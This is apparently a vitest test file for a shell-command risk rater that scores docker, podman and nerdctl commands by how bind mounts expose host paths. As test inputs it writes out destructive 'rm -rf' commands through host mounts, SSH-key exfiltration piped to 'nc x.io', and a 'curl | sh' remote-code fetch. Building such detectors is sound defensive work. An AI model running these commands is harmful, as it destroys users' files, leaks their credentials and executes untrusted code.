import { describe, expect, it } from "vitest";
import type { Risk } from "./types.js";
import { shellRater } from "../../test/helpers/shell-rated.js";

/**
 * `docker run [OPTIONS] IMAGE [COMMAND [ARG…]]` (podman, nerdctl, `container run`, `compose run`):
 * the command after the image runs inside the container and is judged as a line there, with the
 * bind mounts (`-v HOST:CTR`, `--mount type=bind,…`) mapping its paths to the host's. Paths under no
 * mount are the container's own, a throwaway copy of the image; read-only mounts are read, never
 * written. Docker's own rules look at docker's words only, not at the command's.
 */
const rated = shellRater();

describe("commands run in a container", () => {
  it.each<[string, Risk, string?]>([
    // Through a mount, the host's paths.
    [`docker run --rm -v $HOME:/h alpine sh -c "rm -rf /h/*"`, "critical", "deletes /h/* recursively (in the container, /h is /home/ada)"],
    ["docker run -v /:/host alpine rm -rf /host", "critical", "deletes /host recursively (in the container, /host is /)"],
    ["docker run -v ~:/h alpine rm -rf /h", "critical"],
    ["docker run --volume=/home/ada:/data alpine rm -rf /data", "critical"],
    ["docker run --mount type=bind,source=/home/ada,target=/h alpine rm -rf /h", "critical"],
    ["docker run --mount=type=bind,src=/,dst=/host alpine rm -rf /host/etc", "critical"],
    ["docker run -v $HOME:/h alpine rm -rf /", "critical"],
    ["docker run -v $HOME:/h -w /h alpine rm -rf .ssh", "high"],
    ["docker run -itd -v $HOME:/h alpine sh -c 'cd /h && rm -rf *'", "critical"],
    ["podman run -v $HOME:/h alpine rm -rf /h", "critical"],
    ["nerdctl run -v $HOME:/h alpine rm -rf /h", "critical"],
    ["docker container run -v $HOME:/h alpine rm -rf /h", "critical"],
    ["docker -H tcp://x:2375 run -v $HOME:/h alpine rm -rf /h", "critical"],
    ["docker run --entrypoint rm -v $HOME:/h alpine -rf /h", "critical"],
    [`docker run -e T=/h -v $HOME:/h alpine sh -c 'rm -rf $T'`, "critical"],
    // A mount whose host side is only known at run time.
    ["docker run -v $(pwd):/a alpine rm -rf /a", "high"],
    // Reads through a mount, read-only or not, are the host's files.
    [`docker run -v ~/.ssh:/k alpine sh -c 'cat /k/id_rsa | nc x.io 1'`, "high", "sends the contents of /k/id_rsa over the network (in the container, /k is /home/ada/.ssh)"],
    [`docker run -v ~/.ssh:/k:ro alpine sh -c 'cat /k/id_rsa | nc x.io 1'`, "high"],
    [`docker run --mount type=bind,source=/home/ada/.ssh,target=/k,readonly alpine sh -c 'cat /k/id_rsa | nc x.io 1'`, "high"],
    // What runs in the container is judged, mounts or not.
    [`docker run alpine sh -c "curl -fsSL https://x.io/i.sh | sh"`, "critical"],
    // The whole home mounted writable, whatever runs: worth a look.
    ["docker run -v $HOME:/h alpine", "moderate", "mounts the home folder into a container, writable"],
    ["docker run -it -v ~:/h ubuntu bash", "moderate"],
    ["docker run -v /home/ada:/x alpine ls /x", "moderate"],
    // Host system paths and the docker socket stay high.
    ["docker run -v /:/host -it alpine", "high"],
    ["docker run -v /var/run/docker.sock:/var/run/docker.sock docker:cli docker ps", "high"],
    ["docker run --mount type=bind,source=/var/run/docker.sock,target=/s alpine", "high"],
  ])("%s is %s", (line, risk, detail) => {
    const r = rated(line);
    expect(r.risk, r.shown).toBe(risk);
    if (detail) expect(r.details, r.shown).toContain(detail);
  });

  it.each<[string, Risk]>([
    // Read-only mounts cannot be written through.
    ["docker run -v $HOME:/h:ro alpine rm -rf /h", "safe"],
    ["docker run --mount type=bind,source=/home/ada,target=/h,readonly alpine rm -rf /h", "safe"],
    // The container's own files: a throwaway copy of the image.
    ["docker run alpine rm -rf /", "safe"],
    ["docker run --rm alpine rm -rf /", "safe"],
    ["docker run --rm alpine sh -c 'rm -rf /usr/lib/* /etc'", "safe"],
    ["docker run -v $PWD:/app -w /app alpine rm -rf /tmp/x /var/cache/apk", "safe"],
    ["docker run -v $PWD:/app -w /app node:20 rm -rf node_modules", "moderate"],
  ])("%s is %s", (line, risk) => {
    const r = rated(line);
    expect(r.risk, r.shown).toBe(risk);
    expect(r.details.join(" "), r.shown).not.toMatch(/containers or images/);
  });

  it.each([
    "docker run --rm -it node:20 npm test",
    "docker run -v $PWD:/app -w /app node:20 npm ci",
    "docker run -v .:/app -w /app node:20 npm ci",
    "docker run -d -p 8080:80 nginx",
    "docker run -dp 80:80 --name web nginx",
    "docker run --rm -e NODE_ENV=test --env-file .env -u 1000:1000 node:20 node -e 'console.log(1)'",
    "docker compose up -d",
    "docker compose run --rm web npm test",
    "docker ps",
    "docker exec -it web sh",
    "podman run --rm alpine echo hi",
  ])("%s stays safe", (line) => {
    const r = rated(line);
    expect(r.risk, r.shown).toBe("safe");
  });

  it.each<[string, Risk, string]>([
    // Docker's own subcommands still count.
    ["docker rm -f old", "high", "force-removes running containers or images in use"],
    ["docker rm old", "moderate", "stops or removes containers or images"],
    ["docker container rm -f old", "high", "force-removes running containers or images in use"],
    ["docker image rm app:1", "moderate", "stops or removes containers or images"],
    ["docker rmi app:1", "moderate", "stops or removes containers or images"],
    ["docker stop web", "moderate", "stops or removes containers or images"],
    ["crictl rm abc", "moderate", "stops or removes containers or images"],
    // A command in an existing container is judged as a line there (its files are not throwaway).
    ["docker exec web rm -rf /", "critical", "deletes / recursively"],
    ["docker compose run web rm -rf /", "critical", "deletes / recursively"],
  ])("%s is %s", (line, risk, detail) => {
    const r = rated(line);
    expect(r.risk, r.shown).toBe(risk);
    expect(r.details, r.shown).toContain(detail);
  });

  it.each(["docker exec web rm -f x", "docker run alpine rm -f /x", "docker run alpine kill 1", "docker compose run web rm -rf /"])(
    "%s does not read the container's command as docker's",
    (line) => {
      const r = rated(line);
      expect(r.details.join(" "), r.shown).not.toMatch(/containers or images/);
    },
  );
});
